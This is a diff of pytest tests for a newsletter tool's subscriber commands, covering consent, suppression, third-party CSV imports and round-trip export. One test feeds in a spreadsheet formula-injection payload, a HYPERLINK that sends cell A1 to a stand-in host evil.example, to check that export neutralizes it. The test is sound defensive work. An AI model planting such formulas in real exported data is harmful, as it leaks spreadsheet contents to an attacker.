@@ -7,10 +7,12 @@ import csv
 import io
 import json
 import shutil
+from datetime import UTC
 
 import pytest
 
 from tests.support.cli import run
+from tests.support.newsletters import two_list_config
 from tests.support.values import DATA, EXAMPLE_CSV
 
 
@@ -143,3 +145,250 @@ def test_bounces_process_command(subscribed, tmp_path):
     assert "seen before 1" in run("bounces", "process", str(box)).stdout
     missing = run("bounces", "process", str(tmp_path / "nope"), code=6)
     assert "no such Maildir" in missing.stderr
+
+
+# -- consent: nobody who said no is mailed ----------------------------------------------------
+
+
+def mailed(folder) -> set[str]:
+    """Who the outbox (a Maildir) got a digest for."""
+    import mailbox
+    from email import message_from_bytes, policy
+
+    box = mailbox.Maildir(folder / "outbox", create=False)
+    messages = [message_from_bytes(box.get_bytes(k), policy=policy.default) for k in box.iterkeys()]
+    return {
+        m["To"].addresses[0].addr_spec
+        for m in messages
+        if not str(m["Subject"]).startswith("Confirm")
+    }
+
+
+def shown(email: str) -> dict:
+    return json.loads(run("subscribers", "show", "--json", "--", email).stdout)
+
+
+STAYING = {
+    "ada.lovelace@example.com",
+    "yuri@example.org",
+    "valentina@example.net",
+    "margaret.hamilton@example.com",
+}
+
+
+def test_preferences_never_subscribe_again_someone_who_left_and_send_skips_them(subscribed):
+    run("subscribers", "unsubscribe", "grace.hopper@example.com")
+    run("subscribers", "prefs", "grace.hopper@example.com", "--list", "daily")
+    run("subscribers", "prefs", "grace.hopper@example.com", "--sections", "launch-pad")
+    run("subscribers", "prefs", "grace.hopper@example.com", "--pause")
+    run("subscribers", "prefs", "grace.hopper@example.com", "--resume")
+    # Imported with status=unsubscribed, then given sections.
+    run("subscribers", "prefs", "former.reader@example.com", "--sections", "launch-pad")
+    assert shown("grace.hopper@example.com")["status"] == "unsubscribed"
+    assert shown("former.reader@example.com")["status"] == "unsubscribed"
+    run("fetch")
+    run("send")
+    assert mailed(subscribed) == STAYING
+
+
+def _sign_up(email: str, list_name: str = "daily") -> None:
+    """A sign-up on the web form, through the pipeline functions the form and the server's
+    mailer call."""
+    import asyncio
+    from datetime import datetime
+
+    from digest import pipeline
+
+    ctx = pipeline.Context.open()
+    try:
+        now = datetime.now(UTC)
+        pipeline.request_subscription(ctx, email, "", list_name, None, now, "192.0.2.1")
+        asyncio.run(pipeline.send_confirmations(ctx, now))
+    finally:
+        ctx.close()
+
+
+def test_an_operator_add_or_import_activates_a_pending_sign_up(subscribed):
+    _sign_up("late@example.com")
+    _sign_up("filed@example.com")
+    assert shown("late@example.com")["status"] == "pending"
+    added = run("subscribers", "add", "late@example.com")
+    assert "activated late@example.com" in added.stdout
+    (subscribed / "confirmed.csv").write_text("email,name\nfiled@example.com,Filed\n")
+    result = json.loads(run("subscribers", "import", "confirmed.csv", "--json").stdout)
+    assert result["changed"] == [
+        {"email": "filed@example.com", "line": 2, "changes": ["daily: pending -> active"]}
+    ]
+    for email in ("late@example.com", "filed@example.com"):
+        assert (shown(email)["status"], shown(email)["lists"]) == ("active", ["daily"])
+    run("fetch")
+    run("send")
+    assert mailed(subscribed) == STAYING | {
+        "grace.hopper@example.com",
+        "late@example.com",
+        "filed@example.com",
+    }
+
+
+def test_importing_bounced_or_complained_people_suppresses_them(subscribed):
+    (subscribed / "old.csv").write_text(
+        "email,status\nb@example.com,bounced\nc@example.com,complained\n"
+    )
+    run("subscribers", "import", "old.csv")
+    assert shown("b@example.com")["suppressed"] == "hard-bounce"
+    assert shown("c@example.com")["suppressed"] == "complaint"
+    refused = run("subscribers", "resubscribe", "b@example.com", code=6)
+    assert "suppression list" in refused.stderr
+    run("subscribers", "resubscribe", "b@example.com", "--force")
+    assert shown("b@example.com")["status"] == "active"
+
+
+def test_import_leaves_stored_subscribers_alone_unless_update_and_names_each_change(subscribed):
+    before = shown("grace.hopper@example.com")
+    (subscribed / "new.csv").write_text(
+        "email,name,sections\n"
+        "grace.hopper@example.com,Rear Admiral Hopper,launch-pad\n"
+        "ada.lovelace@example.com,Ada Lovelace,\n"
+        "former.reader@example.com,Former Reader,\n"
+        "new.one@example.com,New One,\n"
+    )
+    result = json.loads(run("subscribers", "import", "new.csv", "--json").stdout)
+    assert (result["added"], result["updated"], result["unchanged"]) == (1, 0, 3)
+    assert result["changed"] == []
+    assert shown("grace.hopper@example.com") == before
+    text = run("subscribers", "import", "new.csv", "--update").stdout
+    assert (
+        "changed grace.hopper@example.com (line 2): name: 'Grace Hopper' -> 'Rear Admiral "
+        "Hopper'; daily sections: military-space;missile-defense -> launch-pad"
+    ) in text
+    assert "0 added, 1 updated, 3 unchanged" in text
+    after = shown("grace.hopper@example.com")
+    assert (after["name"], after["subscriptions"]) == (
+        "Rear Admiral Hopper",
+        {"daily": ["launch-pad"]},
+    )
+    assert shown("former.reader@example.com")["status"] == "unsubscribed"
+
+
+def test_formula_cells_are_neutralized_on_export_and_restored_on_import(
+    subscribed, monkeypatch, make_db_url
+):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    run("subscribers", "add", "f@example.com", "--name", formula, "--consent", "+paper form")
+    run("subscribers", "add", "--name", "@SUM(1+1)", "--", "-minus@example.com")
+    exported = run("subscribers", "export").stdout
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + formula in cells and "'+paper form" in cells and "'-minus@example.com" in cells
+    assert run("subscribers", "list", "-f", "csv").stdout == exported
+    (subscribed / "all.csv").write_text(exported)
+    monkeypatch.setenv("DIGEST_DATABASE_URL", make_db_url("again.db"))
+    run("subscribers", "import", "all.csv")
+    assert shown("f@example.com")["name"] == formula
+    assert shown("f@example.com")["consent"] == "+paper form"
+    assert shown("-minus@example.com")["name"] == "@SUM(1+1)"
+    assert run("subscribers", "export").stdout == exported
+
+
+def test_an_oversized_field_is_a_bad_line_and_the_good_rows_are_imported(subscribed):
+    (subscribed / "big.csv").write_text(
+        "email,name\nok1@example.com,A\nbig@example.com," + "x" * 140_000 + "\nok2@example.com,B\n"
+    )
+    result = run("subscribers", "import", "big.csv", code=5)
+    assert "big.csv:3: cannot be read: field larger than field limit (131072)" in result.stderr
+    assert "2 added" in result.stdout
+
+
+def test_mailchimp_and_listmonk_exports_import_with_any_case_of_section(subscribed):
+    (subscribed / "mailchimp.csv").write_text(
+        "Email Address,First Name,Last Name,CONFIRM_TIME,CONFIRM_IP\n"
+        "mc@example.com,Mae,Carol,2024-03-01 10:00:00,198.51.100.4\n"
+    )
+    (subscribed / "listmonk.csv").write_text(
+        "uuid,email,name,attributes,status,created_at,updated_at\n"
+        'a1,lm@example.com,List Monk,"{}",enabled,2024-01-01,2024-01-01\n'
+        'a2,gone@example.com,Gone,"{}",blocklisted,2024-01-01,2024-01-01\n'
+    )
+    (subscribed / "sections.csv").write_text(
+        "email,sections\ncase@example.com,Launch-Pad;DRONE-SPACE\n"
+    )
+    (subscribed / "cleaned.csv").write_text("Email Address,status\nm@example.com,cleaned\n")
+    for name in ("mailchimp.csv", "listmonk.csv", "sections.csv", "cleaned.csv"):
+        run("subscribers", "import", name)
+    assert shown("m@example.com")["suppressed"] == "hard-bounce"  # Mailchimp's "cleaned"
+    mc = shown("mc@example.com")
+    assert (mc["name"], mc["consent_ip"], mc["consent_at"][:19]) == (
+        "Mae Carol",
+        "198.51.100.4",
+        "2024-03-01T10:00:00",
+    )
+    assert (shown("lm@example.com")["name"], shown("lm@example.com")["status"]) == (
+        "List Monk",
+        "active",
+    )
+    assert shown("gone@example.com")["status"] == "unsubscribed"
+    assert shown("case@example.com")["subscriptions"] == {"daily": ["drone-space", "launch-pad"]}
+
+
+@pytest.fixture
+def two_lists(monkeypatch, tmp_path, db_url):
+    """A newsletter with a daily and a weekly list."""
+    monkeypatch.setenv("DIGEST_CONFIG", str(two_list_config(tmp_path)))
+    monkeypatch.setenv("DIGEST_DATABASE_URL", db_url)
+    monkeypatch.setenv("DIGEST_OUTBOX", str(tmp_path / "outbox"))
+    monkeypatch.setenv("DIGEST_SECRET_KEY", "s" * 48)
+    run("init")
+    return tmp_path
+
+
+def test_export_import_export_is_byte_identical_for_every_state(
+    two_lists, monkeypatch, make_db_url
+):
+    add = ("subscribers", "add")
+    run(
+        *add,
+        "active@example.com",
+        "--list",
+        "daily",
+        "--list",
+        "weekly",
+        "--sections",
+        "launch-pad",
+        "--name",
+        "Active",
+    )
+    run(*add, "paused@example.com", "--list", "daily", "--consent", "paper form 2026-03")
+    run("subscribers", "prefs", "paused@example.com", "--list", "daily", "--pause")
+    run(*add, "left-one@example.com", "--list", "daily", "--list", "weekly")
+    run("subscribers", "unsubscribe", "left-one@example.com", "--list", "weekly")
+    run(*add, "left-all@example.com", "--list", "daily", "--list", "weekly")
+    run("subscribers", "unsubscribe", "left-all@example.com")
+    (two_lists / "returned.csv").write_text(
+        "email,lists,status\n"
+        "bounced@example.com,daily,bounced\n"
+        "complained@example.com,weekly,complained\n"
+    )
+    run("subscribers", "import", "returned.csv")
+    _sign_up("pending@example.com", "weekly")  # a web sign-up, never confirmed
+    _sign_up("active@example.com", "daily")  # already active there: nothing changes
+    run(*add, "second@example.com", "--list", "daily")
+    _sign_up("second@example.com", "weekly")  # active on daily, pending on weekly
+    pending = shown("pending@example.com")
+    assert (pending["status"], pending["lists"], pending["consent"]) == (
+        "pending",
+        ["weekly:pending"],
+        None,
+    )
+    assert shown("second@example.com")["lists"] == ["daily", "weekly:pending"]
+    first = {fmt: run("subscribers", "export", "-f", fmt).stdout for fmt in ("csv", "json")}
+    assert first["csv"].count("\n") == 9
+    for fmt, name in (("csv", "all.csv"), ("json", "all.jsonl")):
+        (two_lists / name).write_text(first[fmt])
+        monkeypatch.setenv("DIGEST_DATABASE_URL", make_db_url(name + ".db"))
+        run("init")
+        result = json.loads(run("subscribers", "import", name, "--json").stdout)
+        assert (result["added"], result["rejected"]) == (8, [])
+        assert run("subscribers", "export", "-f", fmt).stdout == first[fmt]
+        again = shown("pending@example.com")
+        assert (again["status"], again["consent"], again["consent_at"]) == ("pending", None, None)
+        assert shown("bounced@example.com")["suppressed"] == "hard-bounce"
